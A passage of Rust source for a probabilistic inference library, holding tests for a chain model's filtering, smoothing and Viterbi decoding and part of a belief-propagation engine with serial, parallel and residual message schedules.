/// the most recent observation sequence so same-length refills rewrite
/// factor tables in place instead of rebuilding the graph.
#[derive(Debug, Clone, Default)]
pub struct ChainGraphBuffer {
    graph: FactorGraph,
    len: usize,
    n_states: usize,
}

impl ChainGraphBuffer {
    pub fn new() -> ChainGraphBuffer {
        ChainGraphBuffer::default()
    }

    /// The factor graph of the last [`ChainModel::fill_factor_graph`].
    pub fn graph(&self) -> &FactorGraph {
        &self.graph
    }

    /// Append an extra factor on top of the chain (e.g. a skip-agreement
    /// factor of the session model). Appended factors sit after the
    /// chain factors, so a same-length [`ChainModel::fill_factor_graph`]
    /// refresh leaves them intact.
    pub fn append_factor(&mut self, factor: Factor) -> crate::graph::FactorId {
        self.graph.add_factor(factor)
    }

    /// Drop the materialized graph so the next fill rebuilds from
    /// scratch (used when appended factors must change).
    pub fn reset(&mut self) {
        self.graph = FactorGraph::new();
        self.len = 0;
        self.n_states = 0;
    }

    /// Chain length currently materialized.
    pub fn chain_len(&self) -> usize {
        self.len
    }

    /// Consume the buffer, yielding the graph.
    pub fn into_graph(self) -> FactorGraph {
        self.graph
    }
}

#[cfg(test)]
#[allow(clippy::needless_range_loop)]
mod tests {
    use super::*;
    use crate::sumproduct::{brute_force_marginals, run, BpOptions};

    /// A 2-state weather-like model.
    fn toy() -> ChainModel {
        ChainModel::new(
            2,
            3,
            vec![0.6, 0.4],
            vec![0.7, 0.3, 0.4, 0.6],
            vec![0.5, 0.4, 0.1, 0.1, 0.3, 0.6],
        )
    }

    #[test]
    fn filter_is_normalized_per_step() {
        let m = toy();
        let (alphas, ll) = m.filter(&[0, 1, 2, 2, 0]);
        for a in &alphas {
            let s: f64 = a.iter().sum();
            assert!((s - 1.0).abs() < 1e-12);
        }
        assert!(ll < 0.0);
    }

    #[test]
    fn posteriors_match_factor_graph_bp() {
        let m = toy();
        let obs = vec![0, 2, 1, 2];
        let gammas = m.posteriors(&obs);
        let g = m.to_factor_graph(&obs);
        let bp = run(&g, &BpOptions::default());
        for (t, gamma) in gammas.iter().enumerate() {
            for s in 0..2 {
                assert!(
                    (gamma[s] - bp.marginals[t][s]).abs() < 1e-6,
                    "t={t} s={s}: fb {} vs bp {}",
                    gamma[s],
                    bp.marginals[t][s]
                );
            }
        }
    }

    #[test]
    fn posteriors_match_brute_force() {
        let m = toy();
        let obs = vec![2, 2, 0];
        let gammas = m.posteriors(&obs);
        let exact = brute_force_marginals(&m.to_factor_graph(&obs));
        for (t, gamma) in gammas.iter().enumerate() {
            for s in 0..2 {
                assert!((gamma[s] - exact[t][s]).abs() < 1e-9);
            }
        }
    }

    #[test]
    fn viterbi_agrees_with_exhaustive_search() {
        let m = toy();
        let obs = vec![0, 2, 2, 1];
        let (path, logp) = m.viterbi(&obs);
        // Exhaustive: enumerate all 2^4 state paths.
        let mut best_path = Vec::new();
        let mut best = f64::NEG_INFINITY;
        for code in 0..16u32 {
            let states: Vec<usize> = (0..4).map(|t| ((code >> t) & 1) as usize).collect();
            let mut p = m.prior()[states[0]] * m.emit(states[0], obs[0]);
            for t in 1..4 {
                p *= m.trans(states[t - 1], states[t]) * m.emit(states[t], obs[t]);
            }
            if p.ln() > best {
                best = p.ln();
                best_path = states;
            }
        }
        assert_eq!(path, best_path);
        assert!((logp - best).abs() < 1e-9);
    }

    #[test]
    fn loglik_decreases_with_unlikely_observations() {
        let m = toy();
        // State 0 emits obs 2 rarely; a run of 2s is less likely than 0s
        // under the prior-favored state.
        let likely = m.loglik(&[0, 0, 0]);
        let unlikely = m.loglik(&[2, 2, 2]);
        assert!(likely > unlikely);
    }

    #[test]
    fn empty_sequence_handled() {
        let m = toy();
        assert!(m.posteriors(&[]).is_empty());
        let (p, l) = m.viterbi(&[]);
        assert!(p.is_empty());
        assert_eq!(l, 0.0);
    }

    #[test]
    fn filtering_is_causal_smoothing_is_not() {
        let m = toy();
        let obs_a = vec![0, 0, 2];
        let obs_b = vec![0, 0, 0];
        let (fa, _) = m.filter(&obs_a);
        let (fb, _) = m.filter(&obs_b);
        // Filtered estimate at t=1 cannot depend on the future observation.
        assert_eq!(fa[1], fb[1]);
        // Smoothed estimate at t=1 does.
        let ga = m.posteriors(&obs_a);
        let gb = m.posteriors(&obs_b);
        assert_ne!(ga[1], gb[1]);
    }

    fn toy_with_gaps() -> ChainModel {
        use crate::timing::GapModel;
        // 2 gap bins (< 1h / >= 1h): state 0 fast, state 1 slow.
        toy().with_gap_model(GapModel::new(2, vec![3_600.0], vec![0.9, 0.1, 0.2, 0.8]))
    }

    #[test]
    fn timed_filter_with_neutral_bins_matches_order_only() {
        use crate::timing::GAP_NONE;
        let m = toy_with_gaps();
        let obs = vec![0, 1, 2, 2];
        let (plain, ll_plain) = m.filter(&obs);
        let (timed, ll_timed) = m.filter_timed(&obs, &[GAP_NONE; 4]);
        assert_eq!(plain, timed, "GAP_NONE everywhere is a neutral fold");
        assert!((ll_plain - ll_timed).abs() < 1e-12);
    }

    #[test]
    fn timed_filter_shifts_posterior_toward_tempo_matched_state() {
        use crate::timing::GAP_NONE;
        let m = toy_with_gaps();
        let obs = vec![1, 1, 1];
        let fast_bins = vec![GAP_NONE, 0, 0];
        let slow_bins = vec![GAP_NONE, 1, 1];
        let (fast, _) = m.filter_timed(&obs, &fast_bins);
        let (slow, _) = m.filter_timed(&obs, &slow_bins);
        assert!(
            slow[2][1] > fast[2][1],
            "slow tempo must favour the slow state: {} vs {}",
            slow[2][1],
            fast[2][1]
        );
    }

    #[test]
    fn timed_smoothing_matches_timed_factor_graph_bp() {
        use crate::sumproduct::{run, BpOptions};
        use crate::timing::GAP_NONE;
        let m = toy_with_gaps();
        let obs = vec![0, 2, 1, 2];
        let bins = vec![GAP_NONE, 1, 0, 1];
        let gammas = m.posteriors_timed(&obs, &bins);
        let mut buf = ChainGraphBuffer::new();
        m.fill_factor_graph_timed(&obs, &bins, &mut buf);
        let bp = run(buf.graph(), &BpOptions::default());
        for (t, gamma) in gammas.iter().enumerate() {
            for s in 0..2 {
                assert!(
                    (gamma[s] - bp.marginals[t][s]).abs() < 1e-6,
                    "t={t} s={s}: fb {} vs bp {}",
                    gamma[s],
                    bp.marginals[t][s]
                );
            }
        }
    }

    #[test]
    fn timed_refill_rewrites_tables_in_place() {
        use crate::timing::GAP_NONE;
        let m = toy_with_gaps();
        let obs = vec![1, 1];
        let mut buf = ChainGraphBuffer::new();
        m.fill_factor_graph_timed(&obs, &[GAP_NONE, 0], &mut buf);
        let (a, _) = m.filter_timed(&obs, &[GAP_NONE, 0]);
        // Same shape, different bins: the refresh must change the result.
        m.fill_factor_graph_timed(&obs, &[GAP_NONE, 1], &mut buf);
        use crate::sumproduct::{run, BpOptions};
        let bp = run(buf.graph(), &BpOptions::default());
        let (b, _) = m.filter_timed(&obs, &[GAP_NONE, 1]);
        assert!((bp.marginals[1][1] - b[1][1]).abs() < 1e-9);
        assert_ne!(a[1][1], b[1][1], "bin change must reach the tables");
    }

    #[test]
    fn gap_model_equality_and_accessors() {
        let with = toy_with_gaps();
        let plain = toy();
        assert_ne!(with, plain, "gap side participates in model equality");
        assert_eq!(with.clone(), with);
        assert!(with.gap_model().is_some());
        assert!(plain.gap_model().is_none());
        // Neutral accessors on a gap-free model.
        assert_eq!(plain.gap_emit(0, 3), 1.0);
        assert_eq!(plain.gap_bin(12_345.0), crate::timing::GAP_NONE);
        // And real quantization on the gap-carrying one.
        assert_eq!(with.gap_bin(10.0), 0);
        assert_eq!(with.gap_bin(7_200.0), 1);
        assert!((with.gap_emit(1, 1) - 0.8).abs() < 1e-12);
    }

    #[test]
    fn invalid_rows_rejected() {
        assert!(std::panic::catch_unwind(|| {
            ChainModel::new(2, 2, vec![0.5, 0.6], vec![0.5; 4], vec![0.5; 4])
        })
        .is_err());
    }
}
