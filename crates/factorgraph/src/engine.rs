//! The belief-propagation engine core shared by [`crate::sumproduct`]
//! and [`crate::maxproduct`].
//!
//! Messages live in two flat `f64` arenas indexed by precomputed edge
//! offsets rather than per-edge `Vec`s:
//!
//! - the **variable→factor** arena is laid out *variable-grouped*: every
//!   variable's outgoing messages are contiguous, so the variable sweep
//!   writes disjoint contiguous slices;
//! - the **factor→variable** arena is laid out *factor-grouped*: every
//!   factor's outgoing messages are contiguous, so the factor sweep
//!   writes disjoint contiguous slices.
//!
//! Each sweep phase only *reads* the other arena, which makes the
//! flooding schedule embarrassingly parallel without double buffering:
//! the parallel schedule computes bit-identical messages to the serial
//! one, it just partitions the writes across threads with recursive
//! `rayon::join` splits.
//!
//! Factor→variable marginalization walks tables with stride arithmetic:
//! unary factors copy, pairwise factors run a matrix–vector kernel, and
//! higher arities expand the full incoming-message product in one O(size)
//! pass and then divide out the target position's own message (with an
//! exact odometer fallback for (near-)zero entries, the only place an
//! assignment vector survives).
//!
//! A [`BpWorkspace`] is built once per graph *shape* and reused across
//! runs: once `prepare` has seen the shape, repeated serial-schedule runs
//! perform **zero heap allocation** (asserted by
//! `tests/alloc_free.rs`).

use crate::graph::{FactorGraph, FactorId};
use crate::variable::VarId;

/// Below this value a message entry is treated as zero and the
/// divide-out-own-message shortcut falls back to the exact odometer walk.
const DIV_EPS: f64 = 1e-290;

/// Message-passing schedule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum BpSchedule {
    /// Serial flooding sweep (variables, then factors). The default.
    #[default]
    Flood,
    /// Flooding sweep with both phases parallelized over disjoint arena
    /// slices (`rayon::join` splits). Identical results to [`Flood`],
    /// worth it on large session graphs.
    ///
    /// [`Flood`]: BpSchedule::Flood
    ParallelFlood,
    /// Residual-priority serial schedule: always update the factor whose
    /// inputs changed most. Converges in far fewer message updates on
    /// loopy session graphs.
    Residual,
}

/// Counters from an engine run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BpStats {
    /// Flooding iterations (for the residual schedule: total factor
    /// updates divided by the factor count, rounded up).
    pub iterations: usize,
    /// Whether the message deltas fell below tolerance.
    pub converged: bool,
    /// Individual factor→variable message-set updates performed.
    pub factor_updates: usize,
}

/// Static shape index of a factor graph: CSR adjacency in both
/// directions, message-arena offsets, and table strides.
#[derive(Debug, Clone, Default)]
struct GraphIndex {
    nv: usize,
    nf: usize,
    /// CSR: edge ids (factor-grouped) of factor `fi` are
    /// `factor_edge_start[fi]..factor_edge_start[fi+1]`.
    factor_edge_start: Vec<u32>,
    /// Per edge (factor-grouped): scope variable.
    edge_var: Vec<u32>,
    /// Per edge: owning factor (inverse of the CSR, O(1) lookups).
    edge_factor: Vec<u32>,
    /// Per edge: variable cardinality (= message length).
    edge_card: Vec<u32>,
    /// Per edge: stride of this scope position in the factor table.
    edge_stride: Vec<u32>,
    /// Per edge: offset of its factor→variable message in the
    /// factor-grouped arena.
    edge_f2v_off: Vec<u32>,
    /// Per edge: offset of its variable→factor message in the
    /// variable-grouped arena.
    edge_v2f_off: Vec<u32>,
    /// Per variable: cardinality.
    var_card: Vec<u32>,
    /// CSR: positions into `var_edge_ids` per variable.
    var_edge_start: Vec<u32>,
    /// Edge ids (factor-grouped numbering) incident to each variable.
    var_edge_ids: Vec<u32>,
    /// Per variable: start of its contiguous block in the
    /// variable-grouped arena.
    var_v2f_start: Vec<u32>,
    /// Per variable: offset of its belief in the belief arena.
    var_belief_off: Vec<u32>,
    /// Total message floats (length of each arena).
    arena_len: usize,
    /// Total belief floats.
    belief_len: usize,
    max_card: usize,
    max_degree: usize,
    max_table: usize,
    max_arity: usize,
    /// Whether the graph is a forest — in which case every schedule
    /// short-circuits to the exact two-pass tree sweep.
    is_forest: bool,
    /// BFS order over bipartite nodes (vars `0..nv`, factors `nv..`),
    /// roots first; drives the tree sweep.
    bfs_order: Vec<u32>,
    /// Per bipartite node: the edge to its BFS parent (`NO_PARENT` for
    /// roots). Only meaningful when `is_forest`.
    parent_edge: Vec<u32>,
}

const NO_PARENT: u32 = u32::MAX;

impl GraphIndex {
    #[allow(clippy::needless_range_loop)] // offsets accumulate across arrays
    fn build(graph: &FactorGraph) -> GraphIndex {
        let nv = graph.num_variables();
        let nf = graph.num_factors();
        let mut idx = GraphIndex {
            nv,
            nf,
            ..GraphIndex::default()
        };

        idx.var_card = graph.variables().iter().map(|v| v.card as u32).collect();
        idx.max_card = graph.variables().iter().map(|v| v.card).max().unwrap_or(0);

        // Factor-grouped edges + strides + f2v offsets.
        idx.factor_edge_start = Vec::with_capacity(nf + 1);
        idx.factor_edge_start.push(0);
        let mut f2v_off = 0u32;
        for f in graph.factors() {
            let arity = f.vars().len();
            idx.max_arity = idx.max_arity.max(arity);
            idx.max_table = idx.max_table.max(f.size());
            let mut stride = f.size() as u32;
            let fi = idx.factor_edge_start.len() as u32 - 1;
            for (pos, v) in f.vars().iter().enumerate() {
                let card = f.cards()[pos] as u32;
                stride /= card;
                idx.edge_var.push(v.0);
                idx.edge_factor.push(fi);
                idx.edge_card.push(card);
                idx.edge_stride.push(stride);
                idx.edge_f2v_off.push(f2v_off);
                idx.edge_v2f_off.push(0); // filled below
                f2v_off += card;
            }
            idx.factor_edge_start.push(idx.edge_var.len() as u32);
        }
        idx.arena_len = f2v_off as usize;

        // Variable-grouped incidence + v2f offsets + belief offsets.
        let mut degree = vec![0u32; nv];
        for &v in &idx.edge_var {
            degree[v as usize] += 1;
        }
        idx.max_degree = degree.iter().copied().max().unwrap_or(0) as usize;
        idx.var_edge_start = Vec::with_capacity(nv + 1);
        idx.var_edge_start.push(0);
        idx.var_v2f_start = Vec::with_capacity(nv);
        idx.var_belief_off = Vec::with_capacity(nv);
        let mut v2f_off = 0u32;
        let mut belief_off = 0u32;
        let mut acc = 0u32;
        for v in 0..nv {
            idx.var_v2f_start.push(v2f_off);
            idx.var_belief_off.push(belief_off);
            acc += degree[v];
            idx.var_edge_start.push(acc);
            v2f_off += degree[v] * idx.var_card[v];
            belief_off += idx.var_card[v];
        }
        idx.belief_len = belief_off as usize;

        // Fill var_edge_ids and edge_v2f_off in variable-grouped order.
        idx.var_edge_ids = vec![0u32; idx.edge_var.len()];
        let mut cursor: Vec<u32> = idx.var_edge_start[..nv].to_vec();
        let mut slot: Vec<u32> = idx.var_v2f_start.clone();
        for eid in 0..idx.edge_var.len() {
            let v = idx.edge_var[eid] as usize;
            idx.var_edge_ids[cursor[v] as usize] = eid as u32;
            cursor[v] += 1;
            idx.edge_v2f_off[eid] = slot[v];
            slot[v] += idx.var_card[v];
        }

        // BFS forest over the bipartite graph: nodes are vars (0..nv)
        // and factors (nv..nv+nf). A graph is a forest iff every edge is
        // a tree edge: edges == nodes - components.
        let nodes = nv + nf;
        idx.parent_edge = vec![NO_PARENT; nodes];
        idx.bfs_order = Vec::with_capacity(nodes);
        let mut visited = vec![false; nodes];
        let mut components = 0usize;
        for root in 0..nodes {
            if visited[root] {
                continue;
            }
            components += 1;
            visited[root] = true;
            idx.bfs_order.push(root as u32);
            let mut head = idx.bfs_order.len() - 1;
            while head < idx.bfs_order.len() {
                let node = idx.bfs_order[head] as usize;
                head += 1;
                // Direct field indexing (not the CSR helper methods):
                // the queue grows while adjacency is being read.
                let edges = if node < nv {
                    idx.var_edge_start[node]..idx.var_edge_start[node + 1]
                } else {
                    idx.factor_edge_start[node - nv]..idx.factor_edge_start[node - nv + 1]
                };
                for k in edges {
                    let eid = if node < nv {
                        idx.var_edge_ids[k as usize]
                    } else {
                        k
                    };
                    let peer = if node < nv {
                        nv + idx.edge_factor[eid as usize] as usize
                    } else {
                        idx.edge_var[eid as usize] as usize
                    };
                    if !visited[peer] {
                        visited[peer] = true;
                        idx.parent_edge[peer] = eid;
                        idx.bfs_order.push(peer as u32);
                    }
                }
            }
        }
        idx.is_forest = idx.edge_var.len() == nodes - components;
        idx
    }

    /// Whether this index still describes `graph`'s shape (same
    /// variables, cardinalities, factor scopes). Allocation-free.
    fn matches(&self, graph: &FactorGraph) -> bool {
        if graph.num_variables() != self.nv || graph.num_factors() != self.nf {
            return false;
        }
        if graph
            .variables()
            .iter()
            .zip(&self.var_card)
            .any(|(v, &c)| v.card as u32 != c)
        {
            return false;
        }
        let mut eid = 0usize;
        for (fi, f) in graph.factors().iter().enumerate() {
            let end = self.factor_edge_start[fi + 1] as usize;
            if eid + f.vars().len() != end {
                return false;
            }
            for v in f.vars() {
                if self.edge_var[eid] != v.0 {
                    return false;
                }
                eid += 1;
            }
        }
        true
    }

    #[inline]
    fn factor_edges(&self, fi: usize) -> std::ops::Range<usize> {
        self.factor_edge_start[fi] as usize..self.factor_edge_start[fi + 1] as usize
    }

    #[inline]
    fn var_edges(&self, vi: usize) -> &[u32] {
        &self.var_edge_ids[self.var_edge_start[vi] as usize..self.var_edge_start[vi + 1] as usize]
    }
}

/// Reusable inference state: the shape index, both message arenas, the
/// belief arena, and every scratch buffer the sweeps need. Build (or
/// [`prepare`](BpWorkspace::prepare)) once per graph shape; rerun freely.
#[derive(Debug, Clone, Default)]
pub struct BpWorkspace {
    idx: GraphIndex,
    /// Variable→factor messages, variable-grouped.
    v2f: Vec<f64>,
    /// Factor→variable messages, factor-grouped.
    f2v: Vec<f64>,
    /// Normalized beliefs, one block per variable.
    beliefs: Vec<f64>,
    /// Per-message scratch (max cardinality).
    scratch: Vec<f64>,
    /// Prefix products for the variable sweep (max_degree × max_card).
    pre: Vec<f64>,
    /// Suffix products for the variable sweep.
    suf: Vec<f64>,
    /// Full-table product expansion for arity ≥ 3 factors.
    prod: Vec<f64>,
    /// Odometer digits for the zero-message fallback path.
    digits: Vec<usize>,
    /// Residual-schedule priority heap: (residual, factor) with lazy
    /// invalidation against `residuals`.
    heap: Vec<(f64, u32)>,
    /// Current residual per factor.
    residuals: Vec<f64>,
    /// Per-factor structure classification, rebuilt per run (tables can
    /// be refreshed in place between runs): `(same, diff)` for pairwise
    /// agreement tables, NaN sentinel for dense ones.
    agreement: Vec<(f64, f64)>,
}

impl BpWorkspace {
    /// Build a workspace sized for `graph`.
    pub fn new(graph: &FactorGraph) -> BpWorkspace {
        let mut ws = BpWorkspace::default();
        ws.rebuild(graph);
        ws
    }

    /// Point the workspace at `graph`: reuses every buffer when the shape
    /// matches the previous run (the zero-allocation steady state),
    /// rebuilds the index otherwise. Returns `true` if a rebuild
    /// happened.
    pub fn prepare(&mut self, graph: &FactorGraph) -> bool {
        if self.idx.matches(graph) {
            return false;
        }
        self.rebuild(graph);
        true
    }

    fn rebuild(&mut self, graph: &FactorGraph) {
        self.idx = GraphIndex::build(graph);
        let idx = &self.idx;
        self.v2f.resize(idx.arena_len, 0.0);
        self.f2v.resize(idx.arena_len, 0.0);
        self.beliefs.resize(idx.belief_len, 0.0);
        self.scratch.resize(2 * idx.max_card, 0.0);
        self.pre.resize(idx.max_degree * idx.max_card, 0.0);
        self.suf.resize(idx.max_degree * idx.max_card, 0.0);
        self.prod.resize(idx.max_table, 0.0);
        self.digits.resize(idx.max_arity, 0);
        self.residuals.resize(idx.nf, 0.0);
        self.agreement.resize(idx.nf, (f64::NAN, f64::NAN));
        self.heap.clear();
        self.heap
            .reserve(heap_capacity(idx.nf).saturating_sub(self.heap.capacity()));
    }

    /// Number of message floats per arena (edges weighted by cardinality).
    pub fn arena_len(&self) -> usize {
        self.idx.arena_len
    }

    /// The normalized belief of `var` from the last run.
    pub fn marginal(&self, var: VarId) -> &[f64] {
        let vi = var.0 as usize;
        let off = self.idx.var_belief_off[vi] as usize;
        &self.beliefs[off..off + self.idx.var_card[vi] as usize]
    }

    /// Allocating convenience: beliefs as one `Vec` per variable.
    pub fn marginals_vec(&self) -> Vec<Vec<f64>> {
        (0..self.idx.nv)
            .map(|vi| self.marginal(VarId(vi as u32)).to_vec())
            .collect()
    }

    /// MAP decode per variable from the current beliefs (ties toward the
    /// lower state), written into `out` without allocating beyond its
    /// capacity.
    pub fn map_assignment_into(&self, out: &mut Vec<usize>) {
        out.clear();
        for vi in 0..self.idx.nv {
            let m = self.marginal(VarId(vi as u32));
            let mut best = 0;
            for (k, &x) in m.iter().enumerate() {
                if x > m[best] {
                    best = k;
                }
            }
            out.push(best);
        }
    }

    /// Classify pairwise factors whose table is `same` on the diagonal
    /// and `diff` off it (the session model's skip-agreement factors):
    /// those marginalize in O(card) instead of O(card²). Runs once per
    /// `run` because tables may be refreshed in place between runs.
    fn classify_factors(&mut self, graph: &FactorGraph) {
        for (slot, f) in self.agreement.iter_mut().zip(graph.factors()) {
            *slot = (f64::NAN, f64::NAN);
            let cards = f.cards();
            if cards.len() != 2 || cards[0] != cards[1] || cards[0] < 2 {
                continue;
            }
            let c = cards[0];
            let t = f.table();
            let (same, diff) = (t[0], t[1]);
            let uniform =
                (0..c).all(|i| (0..c).all(|j| t[i * c + j] == if i == j { same } else { diff }));
            if uniform {
                *slot = (same, diff);
            }
        }
    }

    fn reset_messages<const MAX: bool>(&mut self) {
        for eid in 0..self.idx.edge_var.len() {
            let card = self.idx.edge_card[eid] as usize;
            let init = if MAX { 1.0 } else { 1.0 / card as f64 };
            let vo = self.idx.edge_v2f_off[eid] as usize;
            self.v2f[vo..vo + card].fill(init);
            let fo = self.idx.edge_f2v_off[eid] as usize;
            self.f2v[fo..fo + card].fill(init);
        }
    }

    /// Run the engine. `MAX=false` is sum-product, `MAX=true` is
    /// max-product. Allocation-free when `prepare` did not rebuild and
    /// the schedule is serial.
    pub(crate) fn run<const MAX: bool>(
        &mut self,
        graph: &FactorGraph,
        opts: &crate::sumproduct::BpOptions,
    ) -> BpStats {
        self.prepare(graph);
        self.classify_factors(graph);
        self.reset_messages::<MAX>();
        // On forests every schedule short-circuits to the exact two-pass
        // tree sweep: O(2·edges) message sends instead of O(diameter)
        // flooding iterations, no damping needed (the result is the BP
        // fixed point computed directly).
        let stats = if self.idx.is_forest {
            self.run_tree::<MAX>(graph)
        } else {
            match opts.schedule {
                BpSchedule::Flood => self.run_flood::<MAX>(graph, opts, false),
                BpSchedule::ParallelFlood => self.run_flood::<MAX>(graph, opts, true),
                BpSchedule::Residual => self.run_residual::<MAX>(graph, opts),
            }
        };
        self.compute_beliefs::<MAX>();
        stats
    }

    /// Exact two-pass message passing on a forest: leaves→roots, then
    /// roots→leaves, each directed edge computed exactly once.
    fn run_tree<const MAX: bool>(&mut self, graph: &FactorGraph) -> BpStats {
        let idx = &self.idx;
        let nv = idx.nv;
        // Upward: reverse BFS order, every non-root node sends to its
        // parent. All inputs of a message are final when it is sent.
        for i in (0..idx.bfs_order.len()).rev() {
            let node = idx.bfs_order[i] as usize;
            let pe = idx.parent_edge[node];
            if pe == NO_PARENT {
                continue;
            }
            if node < nv {
                send_var_exact::<MAX>(idx, node, pe as usize, &self.f2v, &mut self.v2f);
            } else {
                send_factor_exact::<MAX>(
                    idx,
                    graph,
                    node - nv,
                    pe as usize,
                    &self.v2f,
                    &mut self.f2v,
                    &mut self.prod,
                    &mut self.digits,
                );
            }
        }
        // Downward: BFS order, every node sends along its child edges
        // (the edges whose other endpoint has them as parent edge).
        for i in 0..idx.bfs_order.len() {
            let node = idx.bfs_order[i] as usize;
            if node < nv {
                for k in idx.var_edge_start[node]..idx.var_edge_start[node + 1] {
                    let eid = idx.var_edge_ids[k as usize] as usize;
                    let peer = nv + idx.edge_factor[eid] as usize;
                    if idx.parent_edge[peer] == eid as u32 {
                        send_var_exact::<MAX>(idx, node, eid, &self.f2v, &mut self.v2f);
                    }
                }
            } else {
                for eid in idx.factor_edges(node - nv) {
                    let peer = idx.edge_var[eid] as usize;
                    if idx.parent_edge[peer] == eid as u32 {
                        send_factor_exact::<MAX>(
                            idx,
                            graph,
                            node - nv,
                            eid,
                            &self.v2f,
                            &mut self.f2v,
                            &mut self.prod,
                            &mut self.digits,
                        );
                    }
                }
            }
        }
        BpStats {
            iterations: if idx.nf == 0 { 1 } else { 2 },
            converged: true,
            factor_updates: idx.nf,
        }
    }

    fn run_flood<const MAX: bool>(
        &mut self,
        graph: &FactorGraph,
        opts: &crate::sumproduct::BpOptions,
        parallel: bool,
    ) -> BpStats {
        let mut iterations = 0;
        let mut converged = false;
        let mut factor_updates = 0;
        for iter in 0..opts.max_iters {
            iterations = iter + 1;
            factor_updates += self.idx.nf;
            let delta = if parallel {
                self.flood_iteration_parallel::<MAX>(graph, opts.damping)
            } else {
                self.flood_iteration_serial::<MAX>(graph, opts.damping)
            };
            if delta < opts.tolerance {
                converged = true;
                break;
            }
        }
        BpStats {
            iterations,
            converged,
            factor_updates,
        }
    }

    fn flood_iteration_serial<const MAX: bool>(
        &mut self,
        graph: &FactorGraph,
        damping: f64,
    ) -> f64 {
        let idx = &self.idx;
        let mut max_delta = 0.0f64;
        // Phase 1: variable → factor (reads f2v, writes v2f).
        for vi in 0..idx.nv {
            let start = idx.var_v2f_start[vi] as usize;
            let deg = idx.var_edges(vi).len();
            let len = deg * idx.var_card[vi] as usize;
            let d = update_var_messages::<MAX>(
                idx,
                vi,
                &self.f2v,
                &mut self.v2f[start..start + len],
                &mut self.pre,
                &mut self.suf,
                damping,
            );
            max_delta = max_delta.max(d);
        }
        // Phase 2: factor → variable (reads v2f, writes f2v).
        for fi in 0..idx.nf {
            let edges = idx.factor_edges(fi);
            if edges.is_empty() {
                continue;
            }
            let start = idx.edge_f2v_off[edges.start] as usize;
            let end =
                idx.edge_f2v_off[edges.end - 1] as usize + idx.edge_card[edges.end - 1] as usize;
            let d = update_factor_messages::<MAX>(
                idx,
                graph,
                fi,
                self.agreement[fi],
                &self.v2f,
                &mut self.f2v[start..start + (end - start)],
                &mut self.prod,
                &mut self.digits,
                &mut self.scratch,
                damping,
            );
            max_delta = max_delta.max(d);
        }
        max_delta
    }

    fn flood_iteration_parallel<const MAX: bool>(
        &mut self,
        graph: &FactorGraph,
        damping: f64,
    ) -> f64 {
        // On a single hardware thread the split overhead (and per-chunk
        // scratch) buys nothing: fall through to the serial sweep, which
        // computes identical messages anyway.
        if rayon::current_num_threads() <= 1 {
            return self.flood_iteration_serial::<MAX>(graph, damping);
        }
        let idx = &self.idx;
        let d1 = par_var_sweep::<MAX>(idx, &self.f2v, 0, idx.nv, &mut self.v2f, damping);
        let d2 = par_factor_sweep::<MAX>(
            idx,
            graph,
            &self.agreement,
            &self.v2f,
            0,
            idx.nf,
            &mut self.f2v,
            damping,
        );
        d1.max(d2)
    }

    fn run_residual<const MAX: bool>(
        &mut self,
        graph: &FactorGraph,
        opts: &crate::sumproduct::BpOptions,
    ) -> BpStats {
        let nf = self.idx.nf;
        if nf == 0 {
            return BpStats {
                iterations: 1,
                converged: true,
                factor_updates: 0,
            };
        }
        // Seed with one serial flooding iteration; its per-factor deltas
        // become the initial residuals.
        self.heap.clear();
        let mut factor_updates = nf;
        {
            let idx = &self.idx;
            for vi in 0..idx.nv {
                let start = idx.var_v2f_start[vi] as usize;
                let len = idx.var_edges(vi).len() * idx.var_card[vi] as usize;
                update_var_messages::<MAX>(
                    idx,
                    vi,
                    &self.f2v,
                    &mut self.v2f[start..start + len],
                    &mut self.pre,
                    &mut self.suf,
                    opts.damping,
                );
            }
        }
        for fi in 0..nf {
            let d = self.update_one_factor::<MAX>(graph, fi, opts.damping);
            self.residuals[fi] = d;
            heap_push(&mut self.heap, &self.residuals, (d, fi as u32));
        }
        // Priority loop: total update budget mirrors flooding's worst case.
        let budget = opts.max_iters.saturating_mul(nf);
        let mut converged = false;
        while let Some((res, fi)) = heap_pop(&mut self.heap, &self.residuals) {
            if res < opts.tolerance {
                converged = true;
                break;
            }
            if factor_updates >= budget {
                break;
            }
            factor_updates += 1;
            let fi = fi as usize;
            // Refresh the inputs of `fi`: only the messages *into* this
            // factor, one per scope variable.
            {
                let idx = &self.idx;
                for e in idx.factor_edges(fi) {
                    send_var_damped::<MAX>(
                        idx,
                        e,
                        &self.f2v,
                        &mut self.v2f,
                        &mut self.scratch,
                        opts.damping,
                    );
                }
            }
            let d = self.update_one_factor::<MAX>(graph, fi, opts.damping);
            self.residuals[fi] = 0.0;
            // The change propagates to every other factor sharing a
            // variable with `fi`.
            for e in self.idx.factor_edges(fi) {
                let vi = self.idx.edge_var[e] as usize;
                for k in self.idx.var_edge_start[vi]..self.idx.var_edge_start[vi + 1] {
                    let other_eid = self.idx.var_edge_ids[k as usize] as usize;
                    let other_fi = self.idx.factor_of_edge(other_eid);
                    if other_fi != fi && d > self.residuals[other_fi] {
                        self.residuals[other_fi] = d;
                        heap_push(&mut self.heap, &self.residuals, (d, other_fi as u32));
                    }
                }
            }
        }
        if self.heap.is_empty() {
            converged = true;
        }
        BpStats {
            iterations: factor_updates.div_ceil(nf),
            converged,
            factor_updates,
        }
    }

    fn update_one_factor<const MAX: bool>(
        &mut self,
        graph: &FactorGraph,
        fi: usize,
        damping: f64,
    ) -> f64 {
        let idx = &self.idx;
        let edges = idx.factor_edges(fi);
        if edges.is_empty() {
            return 0.0;
        }
        let start = idx.edge_f2v_off[edges.start] as usize;
        let end = idx.edge_f2v_off[edges.end - 1] as usize + idx.edge_card[edges.end - 1] as usize;
        update_factor_messages::<MAX>(
            idx,
            graph,
            fi,
            self.agreement[fi],
            &self.v2f,
            &mut self.f2v[start..end],
            &mut self.prod,
            &mut self.digits,
            &mut self.scratch,
            damping,
        )
    }

    fn compute_beliefs<const MAX: bool>(&mut self) {
        let idx = &self.idx;
        for vi in 0..idx.nv {
            let off = idx.var_belief_off[vi] as usize;
            let card = idx.var_card[vi] as usize;
            let belief = &mut self.beliefs[off..off + card];
            belief.fill(1.0);
            for &eid in idx.var_edges(vi) {
                let fo = idx.edge_f2v_off[eid as usize] as usize;
                for (k, b) in belief.iter_mut().enumerate() {
                    *b *= self.f2v[fo + k];
                }
            }
            // Beliefs are reported as distributions in both modes.
            normalize_sum(belief);
        }
    }
}

impl GraphIndex {
    /// The factor owning a (factor-grouped) edge id.
    #[inline]
